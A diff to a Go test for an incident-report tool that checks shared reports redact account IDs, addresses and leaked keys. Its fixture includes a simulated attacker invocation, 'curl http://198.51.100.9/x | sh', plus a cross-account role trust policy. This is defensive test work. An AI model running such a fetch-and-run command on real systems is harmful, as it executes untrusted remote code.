@@ -108,16 +108,24 @@ func TestHostile(t *testing.T) {
 
 // TestShare replaces what names the account, and replaces it by the same word everywhere.
 func TestShare(t *testing.T) {
-	r := report(theft("support-user"))
+	a := theft("support-user")
+	at := leakTime.Add(5 * time.Minute)
+	a.Roles = []account.Role{{Name: "web", Created: leakTime.AddDate(-1, 0, 0), Updated: at, Trust: `{"Statement":[{"Effect":"Allow","Principal":{"RAM":"acs:ram::5012345678901234:root"}}]}`}}
+	a.Invocations = []account.Invocation{{ID: "t-1", Created: at, Content: "curl http://198.51.100.9/x | sh", Instances: []string{"i-web-1"}}}
+	a.Usage = []account.Usage{{Key: a.Leaked[0], Kind: "product", Value: "Ram", Last: at}, {Key: a.Leaked[0], Kind: "event", Value: "CreateAccessKey", Last: at}}
+	r := report(a)
 	for _, format := range []string{"text", "html", "markdown"} {
 		text := render(t, format, r, incident.Options{Share: true})
-		for _, secret := range []string{own, "support-user", "198.51.100.66", "deployer", r.Snapshot.Leaked[0].String()} {
+		for _, secret := range []string{own, "support-user", "198.51.100.66", "deployer", "5012345678901234", "198.51.100.9", "config/.env", r.Snapshot.Leaked[0].String()} {
 			if strings.Contains(text, secret) {
 				t.Errorf("%s: it names %s", format, secret)
 			}
 		}
 		if !strings.Contains(strings.ReplaceAll(text, `\-`, "-"), "address-1") {
 			t.Errorf("%s: no alias of the address", format)
+		}
+		if !strings.Contains(text, "CreateAccessKey") {
+			t.Errorf("%s: it does not say what happened", format)
 		}
 	}
 }
